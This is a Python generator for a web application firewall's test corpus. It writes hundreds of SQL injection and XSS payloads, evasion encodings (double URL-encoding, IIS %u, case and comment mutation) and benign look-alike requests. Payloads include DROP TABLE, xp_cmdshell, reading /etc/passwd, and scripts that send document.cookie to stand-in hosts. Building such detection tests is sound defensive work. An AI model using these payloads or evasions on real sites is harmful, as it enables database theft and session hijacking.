"""Generate the WAF test corpus: attack requests (SQLi, XSS) and benign requests.

Written for edge (issue 11) from public knowledge of attack classes, not copied from
any tool's test files. Each attack class is a handful of templates; each template is
instantiated with a few values and placed in several request contexts (query
argument, form body, JSON body, cookie, header, path segment), some of them with an
extra encoding (double URL-encoding, IIS ``%u``, HTML entities) as an evasion
class. Benign requests are what real users send that looks a little like code:
quotes and apostrophes, SQL words in prose, markup in JSON, prices, dates.

Run ``python tests/data/waf/make_corpus.py`` to rewrite ``attacks.jsonl`` and
``benign.jsonl`` beside it. The output is deterministic (a seeded generator), so
the files in git are what the generator gives.

One line per request: ``{"id", "kind" (sqli | xss | benign), "class", "context",
"method", "path", "query", "headers" ([name, value] pairs), "body" (text or null)}``.
"""

from __future__ import annotations

import json
import random
import sys
from pathlib import Path
from urllib.parse import quote, urlencode

HERE = Path(__file__).resolve().parent

# --------------------------------------------------------------------------- attack classes
# {n} a number, {c} a column, {t} a table; each template is one payload.

SQLI: dict[str, list[str]] = {
    "tautology": [
        "' or '1'='1", "' OR 1=1-- -", "\" or \"\"=\"", "admin' or '{n}'='{n}", "') or ('a'='a",
        "1' or 1=1#", "x' OR {n}={n} --", "' or true--", "1 or 1=1", "' or 'x'='x' /*",
        "{n}' || '1'='1", "' or {c} like '%", "1) or (1=1",
    ],
    "union": [
        "' union select null,{c},{c} from {t}--", "{n} UNION ALL SELECT {c},password FROM {t}",
        "-{n} union select 1,2,group_concat({c}) from {t}", "') UNION SELECT username, password FROM {t}--",
        "1 union distinct select @@version,null", "' UNION SELECT table_name FROM information_schema.tables--",
        "0 union select 1,load_file('/etc/passwd'),3", "' union(select(1),(2))#",
    ],
    "stacked": [
        "1; drop table {t}--", "'; DROP TABLE {t}; --", "1; exec xp_cmdshell('dir')--",
        "'; insert into {t}({c}) values ('x')--", "1; update {t} set {c}='x' where 1=1--",
        "'; shutdown --", "1; declare @x varchar(99); exec(@x)--", "'; truncate table {t};--",
    ],
    "comment": [
        "admin'--", "admin'#", "' /**/or/**/1=1--", "1/**/union/**/select/**/{c}/**/from/**/{t}",
        "'/*!50000union*/ select 1,2--", "1'/*comment*/or/**/'1'='1", "admin' -- -",
        "1 /*!or*/ 1=1",
    ],
    "blind_boolean": [
        "1 and 1=1", "1' and '1'='2", "1 AND {n}={n}", "1 and substring(@@version,1,1)=5",
        "1' and ascii(substr((select {c} from {t} limit 1),1,1))>64--", "1 and (select count(*) from {t})>0",
        "' and 1=(select 1 from {t} where {c} like 'a%')--", "1 rlike (select 1)",
    ],
    "blind_time": [
        "1' and sleep({n})--", "1; waitfor delay '0:0:{n}'--", "1 and benchmark(1000000,md5(1))",
        "' or pg_sleep({n})--", "1) and sleep({n}) and (1=1", "';select pg_sleep({n});--",
        "1 and 1=dbms_pipe.receive_message('a',{n})", "' || (select sleep({n}))#",
    ],
    "error_based": [
        "' and extractvalue(1,concat(0x7e,version()))--", "1 and updatexml(1,concat(0x7e,user()),1)",
        "' and 1=convert(int,@@version)--", "1' and (select 1 from(select count(*),concat(version(),floor(rand(0)*2))x "
        "from information_schema.tables group by x)a)--", "' and 1=cast(version() as int)--",
    ],
    "functions": [
        "' or char(65)=char(65)--", "1' and (select @@version)--", "1 and user()='root'",
        "' having 1=1--", "' group by {c} having 1=1--", "1 order by {n}--", "' order by 1,2,3--",
    ],
}

XSS: dict[str, list[str]] = {
    "script_tag": [
        "<script>alert({n})</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script>document.location='//e.example/?'+document.cookie</script>",
        "</title><script>alert(1)</script>", "<scr<script>ipt>alert(1)</script>", "<script\x20type=\"text/javascript\">alert('x')</script>",
        "\"><script>prompt({n})</script>",
    ],
    "event_handler": [
        "<img src=x onerror=alert({n})>", "<body onload=alert('x')>", "<div onmouseover=\"alert(1)\">hover</div>",
        "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
        "<video><source onerror=\"alert(1)\">", "<img src=1 oNeRrOr=confirm`1`>", "<a onclick=alert(1)>x</a>",
    ],
    "attribute_break": [
        "\" onmouseover=\"alert({n})", "' onfocus='alert(1)' autofocus='", "\"><img src=x onerror=alert(1)>",
        "' autofocus onfocus=alert(1) x='", "\" style=\"x:expression(alert(1))", "\"/><svg/onload=alert(1)>",
        "x\" onerror=\"alert(1)",
    ],
    "javascript_url": [
        "javascript:alert({n})", "javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)",
        "<a href=\"javascript:alert(1)\">click</a>", "<iframe src=javascript:alert(1)>", "javascript://%0aalert(1)",
        "java&#x09;script:alert(1)", "vbscript:msgbox(1)", "<a href=javascript&colon;alert(1)>x</a>",
    ],
    "svg_mathml": [
        "<svg onload=alert({n})>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg/onload=prompt(1)//", "<math href=\"javascript:alert(1)\">click</math>",
    ],
    "other_tags": [
        "<iframe src=\"//evil.example\"></iframe>", "<object data=\"javascript:alert(1)\">", "<embed src=javascript:alert(1)>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<base href=\"//evil.example/\">",
        "<form action=javascript:alert(1)><input type=submit>", "<link rel=import href=//evil.example/x>",
        "<style>@import'//evil.example/x.css';</style>",
    ],
    "polyglot": [
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
        "'\"--></style></script><script>alert(1)</script>", "\"'><img src=x onerror=alert(1)>//", "'-alert(1)-'",
        "\";alert(1);//", "</script><svg onload=alert(1)>",
    ],
    "template": [
        "{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}", "${alert(1)}",
        "<div ng-app>{{constructor.constructor('alert({n})')()}}</div>", "{{_c.constructor('alert(1)')()}}",
    ],
}

# Hand-written payloads, one context each; added after the rules were written, as a check
# that the rules generalise beyond the templates above.
HAND_SQLI = [
    ("query", "10 AND 5437=5437"), ("query", "10' AND 'kXyz'='kXyz"), ("form", "x') OR 1=1 LIMIT 1 -- "),
    ("json", "1 OR 'a'='a'"), ("query", "-1' UNION SELECT 1,@@datadir,3-- -"), ("cookie", "abc' AND 1=0 UNION SELECT 1--"),
    ("query", "1;SELECT CASE WHEN (1=1) THEN pg_sleep(3) ELSE pg_sleep(0) END--"), ("form", "1' AND IF(1=1,SLEEP(2),0)-- x"),
    ("query", "(SELECT 1 FROM (SELECT SLEEP(3))a)"), ("query", "1 AND ORD(MID((SELECT IFNULL(CAST(schema_name AS CHAR),0x20) "
                                                           "FROM INFORMATION_SCHEMA.SCHEMATA LIMIT 0,1),1,1))>64"),
    ("json", "admin'||'"), ("query", "' OR 'unusual' = 'unusual'"), ("form", "1%27%20or%20%271%27%3D%271"),
    ("query", "1 UNION/*&test=1*/SELECT/*&pwn=2*/password FROM users"), ("user_agent", "' or sleep(10)#"),
    ("query", "1' ORDER BY 9-- -"), ("query", "';EXEC master..xp_cmdshell 'ping 127.0.0.1'--"),
    ("path", "5 or 2>1"), ("query", "1 AND (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a'"),
    ("form", "' AND 1=(SELECT COUNT(*) FROM tabname); --"),
]
HAND_XSS = [
    ("query", "<img src=\"x\" onerror=\"fetch('//e.example/'+document.cookie)\">"), ("form", "<svg><set onbegin=alert(1)>"),
    ("query", "<a href=\" &#14;  javascript:alert(1)\">x</a>"), ("json", "<iframe srcdoc=\"<script>alert(1)</script>\">"),
    ("query", "<body onpageshow=alert(1)>"), ("cookie", "\"><script src=//e.example/a.js></script>"),
    ("query", "<x contenteditable onblur=alert(1)>lose focus!"), ("form", "<keygen autofocus onfocus=alert(1)>"),
    ("query", "<input onauxclick=alert(1)>"), ("query", "<A HREF=\"jav&#x0A;ascript:alert(1)\">"),
    ("referer", "<img src=x:alert(alt) onerror=eval(src) alt=0>"), ("query", "<sVg oNLoAd=alert`1`>"),
    ("query", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"), ("form", "<style>*{background:url('javascript:alert(1)')}</style>"),
    ("query", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"),
    ("json", "<div style=\"width: expression(alert(1))\">"), ("query", "'><details/open/ontoggle=confirm(1)>"),
    ("query", "<img src=1 onerror=\\u0061lert(1)>"), ("path", "<script>alert(1)</script>"),
    ("query", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>"),
]
HAND_BENIGN = [
    "Where's the nearest 'union' office?", "My username is o'malley_77", "Quote: \"To be, or not to be\"",
    "SELECT is a keyword; don't use it as a column name", "Temperature -5°C or lower", "I <3 my cat",
    "She scored 10/10 -- amazing!", "Order #4521 (2 items)", "50% or more of users select dark mode",
    "email me at a.b+c@example.org", "for (i = 0; i < n; i++) sum += a[i];", "WHERE IS MY PARCEL??",
    "Bob's & Alice's wedding", "1 = one, 2 = two", "\"Hello\" she said, 'hi' he replied",
    "ratio 3:2", "print('hello world')", "<<< back", ">>> next", "is 'null' a value?",
]

# A second hand-written round, probing classes the first rounds had few of (sub-selects,
# error-based functions, data: URLs, entity-encoded handlers); five of these were missed and
# led to rules by class (sqli-subselect, more error-based functions, xss-data-url, NUL removal).
HAND_SQLI_2 = [
    ('query', "1' AND 1=1 AND '1'='1"),
    ('form', "1 AND 1=2 UNION SELECT 1"),
    ('json', "'||(SELECT version())||'"),
    ('cookie', "1' waitfor delay '0:0:5'--"),
    ('query', "1 procedure analyse()"),
    ('user_agent', "1' AND extractvalue(rand(),concat(0x3a,(SELECT user())))#"),
    ('path', "' OR 1 -- "),
    ('referer', "admin\")-- "),
    ('query', "1)) or ((1=1"),
    ('form', "%' and 1=1 and '%'='"),
    ('json', "1 AND 'a'='a"),
    ('cookie', "\" or 1=1--"),
    ('query', "1' || 1#"),
    ('user_agent', "-1 OR 17-7=10"),
    ('path', "1'='1"),
    ('referer', "' or ''='"),
    ('query', "1 and (select 1)=1"),
    ('form', ";select 1"),
    ('json', "' AND 1=1 INTO OUTFILE '/tmp/x'--"),
    ('cookie', "1' AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL) AND 'x'='x"),
    ('query', "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
    ('user_agent', "1' AND GTID_SUBSET(CONCAT(0x71,(SELECT version()),0x71),1)--"),
    ('path', "1 AND 3<4"),
    ('referer', "x' AND email IS NULL; --"),
]
HAND_XSS_2 = [
    ('query', "<img/src/onerror=alert(1)>"),
    ('form', "<svg><g/onload=alert(1)></svg>"),
    ('json', "<iframe/src=\"data:text/html,<svg onload=alert(1)>\">"),
    ('cookie', "<a href=\"&#106;avascript:alert(1)\">x</a>"),
    ('query', "<img src=x onerror=&#97;lert(1)>"),
    ('user_agent', "<video src=x onerror=alert(1)>"),
    ('path', "<body background=\"javascript:alert(1)\">"),
    ('referer', "<table background=javascript:alert(1)>"),
    ('query', "<form><button formaction=javascript:alert(1)>x"),
    ('form', "\"onerror=\"alert(1)"),
    ('json', "<<script>alert(1);//<</script>"),
    ('cookie', "<script/x>alert(1)</script>"),
    ('query', "<svg/onload=&#97;&#108;&#101;&#114;&#116;(1)>"),
    ('user_agent', "\"-alert(1)-\""),
    ('path', "<img src=`x`onerror=alert(1)>"),
    ('referer', "<div style=\"background-image:url(javascript:alert(1))\">"),
    ('query', "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ('form', "<x onclick=alert(1)>click"),
    ('json', "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ('cookie', "<a href=# onclick=\"alert(1)\">x</a>"),
    ('query', "';alert(String.fromCharCode(88,83,83))//"),
    ('user_agent', "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">"),
    ('path', "<object type=\"text/x-scriptlet\" data=\"http://e.example/x.html\"></object>"),
    ('referer', "<svg><animatetransform onbegin=alert(1)>"),
    ('query', "<audio src onloadstart=alert(1)>"),
]
HAND_BENIGN_2 = [
    "What's the difference between SELECT and SELECT DISTINCT?",
    "Let's grab lunch at Mike's; 12:30 works?",
    "(select one) option A or option B",
    "Patrick O'Malley & Sons Ltd.",
    "\"Where\" clause explained simply",
    "I'll update the doc and drop you a line",
    "she said 'hi' or 'hello', I forget",
    "price >= 100 and <= 200",
    "ORDER BY date DESC is what I need",
    "the union of sets A and B",
    "Data: 10, 20, 30",
    "data:image/png;base64,iVBORw0KGgo=",
    "sleep mode not working on laptop",
    "how to benchmark python code",
    "Dear Sir/Madam, -- Regards",
    "<p>Hi</p>",
    "x = y && z || w",
    "#include <stdio.h>",
    "a => b",
    "let's meet @ 5pm",
    "on click handler react",
    "onerror attribute meaning",
    "javascript array methods",
    "script: Hamlet act 1",
    "The expression (1+2)*3 equals 9",
    "Harry's \"best\" friend",
    "don't drop the ball",
    "select from the menu below",
    "it's 100% \"organic\"",
    "Rene Descartes; 1596-1650",
    "AT&T customer service",
    "1' long board",
    "5'11\" tall",
    "the 'null' hypothesis",
    "IF you can read this, THEN great",
    "Please choose: Yes / No",
    "C:\\Program Files\\App",
    "https://example.com/a?b=c&d=e#frag",
    "{\"nested\": {\"key\": \"value\"}}",
    "SELECT-ing the right candidate",
]

TABLES = ["users", "accounts", "admin", "orders"]
COLUMNS = ["password", "username", "email", "secret"]

# --------------------------------------------------------------------------- benign requests

BENIGN_QUERIES = [
    "O'Brien", "D'Angelo pizza", "Mc'Donald's menu", "rock 'n' roll", "don't stop believing", "it's a trap",
    "\"exact phrase\" search", "select a size", "union station chicago", "or else", "and then there were none",
    "Tom & Jerry", "salt & pepper", "Q&A", "1 + 1 = 2", "a < b and c > d", "x >= 10", "50% off", "$19.99",
    "price: $5 - $10", "100% cotton", "2024-05-01", "12/25/2023", "10:30 am", "user@example.com",
    "https://example.com/page?a=1", "C++ tutorial", "C# vs Java", "node.js", "what is 2^10", "#hashtag",
    "@mention", "~/projects", "a/b testing", "drop shipping business", "delete my account", "update iphone",
    "insert coin", "select all that apply", "union jack flag", "from the river to the sea", "where is my order",
    "table for two", "chair and table set", "order by phone", "group by age", "having fun", "null and void",
    "true or false quiz", "1 or 2 bedrooms", "5 and 6 year olds", "it's 5 o'clock somewhere", "l'amour",
    "J'aime Paris", "Peter's friend's book", "'quoted'", "\"double quoted\"", "can't won't shouldn't",
    "<3 love", "3 > 2", "smiley :)", "wink ;)", "semi;colon", "pipe | symbol", "back\\slash", "tab\tseparated",
    "emoji 🎉", "naïve café", "Straße", "日本語", "what does SELECT do in SQL", "how to write a UNION query",
    "sql injection prevention", "xss prevention cheat sheet", "script writing tips", "javascript tutorial",
    "alert dialog design", "onload event explained", "html img tag", "svg icons", "iframe vs embed",
    "1=1 meaning", "admin panel login", "password reset", "the 'or' operator", "select * from menu",
    "sleep tips for babies", "benchmark results 2024", "waitfor it", "character(s)", "function(x)",
    "f(x) = x^2", "(a+b)*(c-d)", "[link](https://example.com)", "**bold** and _italic_", "`inline code`",
    "# Heading", "- list item", "> quote", "a -- b", "1--2", "x/*y", "50/50", "ne'er-do-well",
    "O'Reilly Media", "Shaquille O'Neal", "Sinéad O'Connor", "can you select union members",
    "drop table tennis", "exec summary", "declare war", "shutdown procedure", "truncate text",
    "like and subscribe", "rlike", "sleep(8 hours)", "count(*) in sql", "char(10)", "concat strings",
    "version 2.0.1", "user()", "load file", "outfile", "schema.org", "info about schema", "#1 best seller",
    "page 2 of 10", "id=123", "a=b", "key: value", "yes/no", "on/off", "online = offline?",
]

BENIGN_PROSE = [
    "I'd like to select the union option, or else drop it from the table.",
    "Please update my order; I want to delete the second item and insert a gift card.",
    "The script of the play was great. Alert: tickets sell out fast!",
    "We're meeting at 5 o'clock; don't be late -- it's important.",
    "She said \"yes\" and then 'no' and finally 'maybe'.",
    "Use <b> for bold and <i> for italic in old HTML.",
    "Prices went from $10 to $15 (a 50% increase) on 2023-01-01.",
    "Contact john.o'hara@example.com or call +1 (555) 123-4567.",
    "The function returns 1 if x > 0 else -1.",
    "My password must be 8+ chars & include one of !@#$%^&*().",
    "In SQL, SELECT name FROM users WHERE id = 1 returns one row.",
    "Use document.getElementById('x') to find an element.",
    "Onload, the page shows a banner; on error it shows nothing.",
    "The union between the two companies was announced or so I heard.",
    "Robert'); and friends is a famous comic character name.",
    "I paid 100 € for it, or was it £90?",
    "The 1=1 trick is a classic in security courses.",
    "Rock 'n' roll, baby — that's what we're about.",
    "Terms & Conditions apply; see section 3(a)(ii).",
    "If (a < b) && (c > d) then swap them.",
]

BENIGN_JSON = [
    {"name": "Mary O'Brien", "email": "mary@example.com"},
    {"title": "How to select a union rep", "body": "Or should we drop the idea?"},
    {"code": "SELECT * FROM users WHERE name = 'bob'", "lang": "sql"},
    {"snippet": "if (a < b) { return a; }", "lang": "c"},
    {"markdown": "# Title\n\nSome *emphasis* and `code`.\n\n- item 1\n- item 2", "format": "md"},
    {"comment": "Great product! 5/5 would buy again :)", "rating": 5},
    {"address": {"street": "12 O'Connell St", "city": "Dublin"}, "tags": ["home", "work"]},
    {"query": "price < 100 and price > 10", "sort": "asc"},
    {"html": "<p>Hello <b>world</b></p>", "safe": True},
    {"items": [{"sku": "A-1", "qty": 2}, {"sku": "B'2", "qty": 1}], "total": "$19.98"},
    {"note": "don't forget: meeting @ 10:30; bring the 'red' folder", "done": False},
    {"regex": "^[a-z]+$", "flags": "i"},
    {"path": "C:\\Users\\bob\\docs", "size": 1024},
    {"url": "https://example.com/search?q=a+b&lang=en", "title": "Search"},
    {"bio": "Software engineer. Loves Python, C++ and SQL (PostgreSQL mostly)."},
    {"message": "Hi team -- the deploy is at 5pm; rollback plan ready.", "to": ["ops", "dev"]},
    {"formula": "E = mc^2", "units": "J"},
    {"js": "const x = arr.map(v => v * 2);", "lang": "javascript"},
    {"description": "Table & chairs, 4 seats, oak. Union Furniture Co.", "price": 499.0},
    {"search": "\"exact\" or 'single'", "page": 2},
]

NAMES = ["O'Brien", "O'Neil", "D'Arcy", "Dell'Acqua", "N'Golo", "Mc'Kay", "de l'Orme", "Ó Súilleabháin",
         "Jean-Luc", "Mary-Kate", "José", "Zoë", "Renée", "Björk", "Smith & Sons"]

USER_AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
]

# --------------------------------------------------------------------------- building


def fill(template: str, rng: random.Random) -> str:
    return template.replace("{n}", str(rng.randint(1, 99))).replace("{c}", rng.choice(COLUMNS)).replace(
        "{t}", rng.choice(TABLES))


def double_encode(payload: str) -> str:
    """The payload percent-encoded, then the ``%`` encoded again (a decode-once WAF sees ``%3C``)."""
    return quote(quote(payload, safe=""), safe="")


def iis_unicode(payload: str) -> str:
    """IIS-style ``%uXXXX`` for the characters a filter looks for."""
    return "".join(f"%u{ord(ch):04x}" if ch in "<>'\"()=; " else ch for ch in payload)


def html_entities(payload: str) -> str:
    return "".join(f"&#{ord(ch)};" if ch in "<>\"'()" else ch for ch in payload)


def request(kind: str, cls: str, context: str, payload: str, rng: random.Random) -> dict:
    """One request carrying ``payload`` in ``context``."""
    ua = rng.choice(USER_AGENTS[:3])
    headers = [["User-Agent", ua], ["Accept", "text/html,*/*"]]
    method, path, query, body = "GET", "/search", "", None
    if context == "query":
        query = urlencode({"q": payload, "page": str(rng.randint(1, 9))})
    elif context == "query_double":
        query = "q=" + double_encode(payload)
    elif context == "query_unicode":
        query = "q=" + iis_unicode(payload)
    elif context == "query_entities":
        query = urlencode({"comment": html_entities(payload)})
    elif context == "query_name":
        query = quote(payload, safe="") + "=1"
    elif context == "form":
        method = "POST"
        headers.append(["Content-Type", "application/x-www-form-urlencoded"])
        body = urlencode({"user": "alice", "comment": payload})
    elif context == "json":
        method = "POST"
        headers.append(["Content-Type", "application/json"])
        body = json.dumps({"user": {"name": payload, "age": 30}, "tags": ["a"]})
    elif context == "cookie":
        headers.append(["Cookie", f"theme=dark; session={quote(payload, safe='')}"])
    elif context == "user_agent":
        headers[0][1] = payload
    elif context == "referer":
        headers.append(["Referer", "https://example.com/?q=" + quote(payload, safe="")])
    elif context == "path":
        path = "/item/" + quote(payload, safe="")
    else:
        raise ValueError(context)
    return {"kind": kind, "class": cls, "context": context, "method": method, "path": path, "query": query,
            "headers": headers, "body": body}


ATTACK_CONTEXTS = ("query", "form", "json", "cookie", "query_double", "user_agent", "path", "referer",
                   "query_name", "query_unicode")
XSS_EXTRA = ("query_entities",)


def mutate_case(payload: str, rng: random.Random) -> str:
    """Random upper/lower case: keywords and tag names are case-insensitive to their parsers."""
    return "".join(ch.upper() if rng.random() < 0.5 else ch.lower() for ch in payload)


def mutate_space(kind: str, payload: str, rng: random.Random) -> str:
    """Other separators where a space was: SQL comments or tabs for SQLi, '/' or tabs in tags for XSS."""
    if kind == "sqli":
        sep = rng.choice(["/**/", "\t", "  "])
        return payload.replace(" ", sep)
    return payload.replace(" ", rng.choice(["\t", "/", "  "]))


def attacks(rng: random.Random) -> list[dict]:
    out = []
    for kind, classes in (("sqli", SQLI), ("xss", XSS)):
        contexts = ATTACK_CONTEXTS + (XSS_EXTRA if kind == "xss" else ())
        for cls, templates in classes.items():
            for i, template in enumerate(templates):
                payload = fill(template, rng)
                variants = [payload, mutate_case(payload, rng), mutate_space(kind, fill(template, rng), rng)]
                # the plain payload in a query argument, the two variants in contexts chosen in turn
                out.append(request(kind, cls, "query", variants[0], rng))
                for k in (1, 2):
                    context = contexts[(i * 2 + k + len(cls)) % len(contexts)]
                    if context == "query":
                        context = "form"
                    out.append(request(kind, cls, context, variants[k], rng))
    for kind, hand in (("sqli", HAND_SQLI + HAND_SQLI_2), ("xss", HAND_XSS + HAND_XSS_2)):
        for context, payload in hand:
            out.append(request(kind, "hand_written", context, payload, rng))
    return out


def benign(rng: random.Random) -> list[dict]:
    out = []
    for q in BENIGN_QUERIES:
        out.append(request("benign", "search", "query", q, rng))
    for q in BENIGN_QUERIES[::3]:
        out.append(request("benign", "search_cookie", "cookie", q, rng))
    for text in BENIGN_PROSE:
        out.append(request("benign", "prose_form", "form", text, rng))
        out.append(request("benign", "prose_query", "query", text, rng))
    for doc in BENIGN_JSON:
        r = request("benign", "json_document", "json", "", rng)
        r["body"] = json.dumps(doc)
        out.append(r)
    for name in NAMES:
        out.append(request("benign", "name_form", "form", name, rng))
        out.append(request("benign", "name_json", "json", name, rng))
    for ua in USER_AGENTS:
        out.append(request("benign", "user_agent", "user_agent", ua, rng))
    for q in BENIGN_QUERIES[1::4]:
        out.append(request("benign", "referer", "referer", q, rng))
    for text in HAND_BENIGN:
        out.append(request("benign", "hand_written", "query", text, rng))
        out.append(request("benign", "hand_written", "json", text, rng))
    for i, text in enumerate(HAND_BENIGN_2):
        out.append(request("benign", "hand_written", ("query", "form", "json", "cookie")[i % 4], text, rng))
    for slug in ("o-brien-interview", "2024/05/01/news", "a_b-c.html", "caf%C3%A9", "100%25-cotton"):
        r = request("benign", "path", "path", "", rng)
        r["path"] = "/blog/" + slug
        out.append(r)
    return out


def main() -> int:
    rng = random.Random(11)
    for name, rows in (("attacks.jsonl", attacks(rng)), ("benign.jsonl", benign(rng))):
        with open(HERE / name, "w", encoding="utf-8") as f:
            for i, row in enumerate(rows):
                f.write(json.dumps({"id": f"{name.split('.')[0]}-{i:04d}", **row}, ensure_ascii=False) + "\n")
        print(f"{name}: {len(rows)} requests")
    return 0


if __name__ == "__main__":
    sys.exit(main())
